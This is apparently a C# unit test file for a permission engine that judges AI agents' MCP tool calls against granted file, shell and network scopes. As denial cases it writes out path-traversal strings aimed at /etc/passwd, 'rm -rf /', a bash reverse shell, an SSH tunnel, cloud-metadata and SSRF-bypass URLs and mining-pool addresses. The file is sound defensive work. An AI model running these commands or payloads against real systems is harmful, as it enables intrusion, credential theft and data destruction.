using System.Collections.Immutable;
using System.Text.Json;
using ToolGate.Core.Actions;
using ToolGate.Core.Decisions;
using ToolGate.Core.Grants;
using ToolGate.Core.Mcp;
using ToolGate.Core.Policies;
using ToolGate.Core.Tests.Support;

namespace ToolGate.Core.Tests.Mcp;

public sealed class McpEvaluatorTests
{
    private static readonly McpGrant Files = new()
    {
        Id = "g-files", AgentId = "a", Source = "api", Server = "files",
        Tools =
        [
            new McpToolGrant
            {
                Name = "read_file",
                Arguments = ImmutableDictionary<string, McpArgumentConstraint>.Empty
                    .Add("path", new McpArgumentConstraint { As = "path", Glob = "/workspace/**", Required = true }),
            },
            new McpToolGrant
            {
                Name = "search",
                Arguments = ImmutableDictionary<string, McpArgumentConstraint>.Empty
                    .Add("query", new McpArgumentConstraint { MaxLength = 20 })
                    .Add("mode", new McpArgumentConstraint { Enum = ["fast", "deep"] })
                    .Add("limit", new McpArgumentConstraint { Minimum = 1, Maximum = 50 })
                    .Add("lang", new McpArgumentConstraint { Regex = "[a-z]{2}" }),
            },
            new McpToolGrant
            {
                Name = "run_command",
                Arguments = ImmutableDictionary<string, McpArgumentConstraint>.Empty.Add("command", new McpArgumentConstraint { As = "shell" }),
            },
            new McpToolGrant
            {
                Name = "fetch",
                Arguments = ImmutableDictionary<string, McpArgumentConstraint>.Empty.Add("url", new McpArgumentConstraint { As = "network" }),
            },
            new McpToolGrant { Name = "anything", AllowExtraArguments = true },
            new McpToolGrant
            {
                Name = "grep",
                AllowExtraArguments = true,
                Arguments = ImmutableDictionary<string, McpArgumentConstraint>.Empty
                    .Add("path", new McpArgumentConstraint { As = "path", Glob = "/workspace/**" })
                    .Add("maxCount", new McpArgumentConstraint { Maximum = 100 }),
            },
        ],
        Resources = ["file:///workspace/**"],
        Prompts = ["summarise"],
    };

    private static readonly PolicySnapshot Snapshot = PolicySnapshot.Create(
        [Files, TestGrants.Shell("s1", ["git status", "ls *"], agentId: "a"), TestGrants.Network("n1", ["https://api.github.com"], agentId: "a")],
        OperatorSettings.Default, TestKnowledge.Shell, TestKnowledge.Network, TestKnowledge.Compute);

    private static readonly PolicySnapshot AnyHost = PolicySnapshot.Create(
        [Files, TestGrants.Network("n-any", ["*"], agentId: "a")], OperatorSettings.Default, TestKnowledge.Shell, TestKnowledge.Network, TestKnowledge.Compute);

    private static Verdict CallWithAnyHost(string arguments) =>
        DecisionEngine.Decide("a", new McpAction("files", McpOperation.CallTool, "fetch", JsonDocument.Parse(arguments).RootElement), AnyHost, TestGrants.Now);

    private static Verdict Call(string tool, string arguments, string server = "files") =>
        DecisionEngine.Decide("a", new McpAction(server, McpOperation.CallTool, tool, JsonDocument.Parse(arguments).RootElement), Snapshot, TestGrants.Now);

    [Theory]
    [InlineData("read_file", """{"path":"/workspace/src/a.txt"}""")]
    [InlineData("read_file", """{"path":"/workspace//src/./b.txt"}""")]
    [InlineData("search", """{"query":"kittens","mode":"fast","limit":10,"lang":"en"}""")]
    [InlineData("search", "{}")]
    [InlineData("run_command", """{"command":"git status"}""")]
    [InlineData("fetch", """{"url":"https://api.github.com/repos"}""")]
    [InlineData("anything", """{"x":1,"y":[true]}""")]
    [InlineData("grep", """{"path":"/workspace/src","pattern":"TODO","file_path":"/etc/passwd"}""")]
    public void GrantedCalls_WithArgumentsInsideTheirConstraints_AreAllowed(string tool, string arguments)
    {
        var verdict = Call(tool, arguments);

        Assert.True(verdict.IsAllowed, verdict.Reason);
        Assert.Equal("grant:g-files", verdict.Rule);
    }

    [Theory]
    [InlineData("read_file", """{"path":"/workspace/../etc/passwd"}""", "outside")]
    [InlineData("read_file", """{"path":"/etc/passwd"}""", "outside")]
    [InlineData("read_file", """{"path":"src/a.txt"}""", "not an absolute path")]
    [InlineData("read_file", """{"path":"/workspace/a\u0000b"}""", "control characters")]
    [InlineData("read_file", """{"path":42}""", "must be a string")]
    [InlineData("read_file", "{}", "required")]
    [InlineData("read_file", """{"path":"/workspace/a","follow":true}""", "'follow' of tool 'read_file' is not granted")]
    [InlineData("search", """{"query":"a very long query that goes past twenty"}""", "longer than 20")]
    [InlineData("search", """{"mode":"slow"}""", "one of fast, deep")]
    [InlineData("search", """{"limit":500}""", "between 1 and 50")]
    [InlineData("search", """{"limit":"5"}""", "must be a number")]
    [InlineData("search", """{"limit":1e400}""", "must be a number")]
    [InlineData("search", """{"lang":"eng"}""", "pattern")]
    [InlineData("search", "[1,2]", "JSON object")]
    [InlineData("read_file", """{"path":"/workspace/%2e%2e/etc/passwd"}""", "contains '%2e', an encoded dot")]
    [InlineData("read_file", """{"path":"/workspace/..%2Fetc/passwd"}""", "contains '%2f'")]
    [InlineData("read_file", """{"path":"/workspace/..%5Cetc/passwd"}""", "contains '%5c'")]
    [InlineData("read_file", """{"path":"/workspace/a%00.txt"}""", "contains '%00'")]
    [InlineData("read_file", """{"path":"/workspace/../../etc/passwd"}""", "outside")]
    [InlineData("read_file", """{"path":"/workspace/.."}""", "path '/' is outside")]
    [InlineData("read_file", """{"path":"/workspace2/a"}""", "outside")]
    [InlineData("read_file", """{"path":"file:///workspace/a"}""", "not an absolute path")]
    [InlineData("read_file", """{"path":"~/a"}""", "not an absolute path")]
    [InlineData("read_file", """{"path":"C:\\workspace\\a"}""", "not an absolute path")]
    [InlineData("grep", """{"path":"/workspace/a","Path":"/etc/passwd"}""", "'Path' is spelled like the constrained argument 'path'")]
    [InlineData("grep", """{"PATH":"/etc/passwd"}""", "'PATH' is spelled like the constrained argument 'path'")]
    [InlineData("grep", """{"max_count":100000}""", "'max_count' is spelled like the constrained argument 'maxCount'")]
    [InlineData("grep", """{"MAX-COUNT":100000}""", "'MAX-COUNT' is spelled like the constrained argument 'maxCount'")]
    public void ArgumentsOutsideTheirConstraints_AreDenied_NamingTheArgument(string tool, string arguments, string why)
    {
        var verdict = Call(tool, arguments);

        Assert.False(verdict.IsAllowed);
        Assert.Equal(McpEvaluator.ArgumentRule, verdict.Rule);
        Assert.Contains(why, verdict.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void AShellArgument_IsJudgedByTheShellCapability_GuardrailsIncluded()
    {
        var notGranted = Call("run_command", """{"command":"rm -rf /"}""");
        var reverseShell = Call("run_command", """{"command":"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}""");
        var tunnel = Call("run_command", """{"command":"ssh -R 9000:localhost:22 x@203.0.113.7"}""");

        Assert.False(notGranted.IsAllowed);
        Assert.Contains("argument 'command' as a shell action", notGranted.Reason, StringComparison.Ordinal);
        Assert.Equal(Severity.Critical, reverseShell.Severity);
        Assert.StartsWith("guardrail:", reverseShell.Rule, StringComparison.Ordinal);
        Assert.Equal(Severity.Critical, tunnel.Severity);
    }

    [Theory]
    [InlineData("http://169.254.169.254/latest/meta-data/", "guardrail:network.address-class")]
    [InlineData("stratum+tcp://pool.supportxmr.com:3333", "guardrail:network.miner")]
    [InlineData("https://evil.example/", "default-deny")]
    public void ANetworkArgument_IsJudgedByTheNetworkCapability(string url, string rule)
    {
        var verdict = Call("fetch", JsonSerializer.Serialize(new { url }));

        Assert.False(verdict.IsAllowed);
        Assert.Equal(rule, verdict.Rule);
    }

    [Theory]
    [InlineData("http://0127.0.0.1:6379/", "guardrail:network.address-class")]
    [InlineData("http://10-0-0-1.nip.io/", "guardrail:network.address-class")]
    [InlineData("http://169.254.169.254.sslip.io/latest/meta-data/", "guardrail:network.address-class")]
    [InlineData("http://localtest.me:8080/", "guardrail:network.address-class")]
    [InlineData("http://host.docker.internal:2375/containers/json", "guardrail:network.address-class")]
    [InlineData("http://[::ffff:a9fe:a9fe]/", "guardrail:network.address-class")]
    [InlineData("stratum+wss://pool.example.net:443", "guardrail:network.miner")]
    [InlineData("http://0100.1.1.1/", "network.invalid-target")]
    public void ANetworkArgument_UnderAnAnyHostGrant_StillMeetsTheNetworkGuardrails(string url, string rule)
    {
        var verdict = CallWithAnyHost(JsonSerializer.Serialize(new { url }));

        Assert.False(verdict.IsAllowed);
        Assert.Equal(rule, verdict.Rule);
        Assert.StartsWith("argument 'url' as a network action: ", verdict.Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("https://example.com/")]
    [InlineData("http://[::ffff:1.1.1.1]/")]
    [InlineData("http://8.8.8.8.nip.io/")]
    public void ANetworkArgument_ToAPublicHost_IsAllowedUnderAnAnyHostGrant(string url)
    {
        Assert.True(CallWithAnyHost(JsonSerializer.Serialize(new { url })).IsAllowed);
    }

    [Fact]
    public void UngrantedToolsAndServers_AreDenied()
    {
        Assert.Equal(McpEvaluator.ToolNotGranted, Call("write_file", """{"path":"/workspace/a"}""").Rule);
        Assert.Equal(Rules.DefaultDeny, Call("read_file", """{"path":"/workspace/a"}""", server: "other").Rule);
    }

    [Fact]
    public void ResourcesAndPrompts_AreGovernedByTheirLists()
    {
        Verdict Decide(McpOperation op, string name) =>
            DecisionEngine.Decide("a", new McpAction("files", op, name, default), Snapshot, TestGrants.Now);

        Assert.True(Decide(McpOperation.ReadResource, "file:///workspace/readme.txt").IsAllowed);
        Assert.Equal(McpEvaluator.ResourceNotGranted, Decide(McpOperation.ReadResource, "file:///etc/passwd").Rule);
        Assert.Equal(McpEvaluator.ResourceNotGranted, Decide(McpOperation.ReadResource, "file:///workspace/../etc/passwd").Rule);
        Assert.Equal(McpEvaluator.ResourceNotGranted, Decide(McpOperation.ReadResource, "file:///workspace/%2e%2e/etc/passwd").Rule);
        Assert.Equal(McpEvaluator.ResourceNotGranted, Decide(McpOperation.ReadResource, "file:///workspace/%2E%2E%2Fetc/passwd").Rule);
        Assert.Equal(McpEvaluator.ResourceNotGranted, Decide(McpOperation.ReadResource, "file:///workspace/..\\etc/passwd").Rule);
        Assert.Equal(McpEvaluator.ResourceNotGranted, Decide(McpOperation.ReadResource, "file:///workspace/x?/../../etc/passwd").Rule);
        Assert.Equal(McpEvaluator.ResourceNotGranted, Decide(McpOperation.ReadResource, "file:///workspace/x#/../../etc/passwd").Rule);
        Assert.Equal(McpEvaluator.ResourceNotGranted, Decide(McpOperation.ReadResource, "file:///workspace/x?p=..").Rule);
        Assert.True(Decide(McpOperation.ReadResource, "file:///workspace/readme.txt?version=2#intro").IsAllowed);
        Assert.True(Decide(McpOperation.GetPrompt, "summarise").IsAllowed);
        Assert.Equal(McpEvaluator.PromptNotGranted, Decide(McpOperation.GetPrompt, "jailbreak").Rule);
    }

    [Fact]
    public void AnActionWithoutArguments_HasADigest()
    {
        var action = new McpAction("files", McpOperation.ReadResource, "file:///workspace/readme.txt", default);

        Assert.Equal(JsonValueKind.Object, action.Arguments.ValueKind);
        Assert.Equal(64, ActionDigest.Compute(action).Length);
    }

    [Fact]
    public void ListingFollowsTheGrants()
    {
        var policy = Snapshot.For("a").Mcp;

        Assert.True(policy.MayUseTool("files", "read_file", TestGrants.Now));
        Assert.False(policy.MayUseTool("files", "write_file", TestGrants.Now));
        Assert.False(policy.MayUseTool("other", "read_file", TestGrants.Now));
        Assert.False(Snapshot.For("b").Mcp.MayUseTool("files", "read_file", TestGrants.Now));
    }

    [Theory]
    [InlineData("/a/b/../c", "/a/c")]
    [InlineData("/a/./b//c/", "/a/b/c")]
    [InlineData("/../../etc", "/etc")]
    [InlineData("/", "/")]
    public void Paths_AreNormalisedLexically(string path, string expected)
    {
        Assert.True(McpPaths.Normalise(path, out var normalised, out _));
        Assert.Equal(expected, normalised);
    }
}
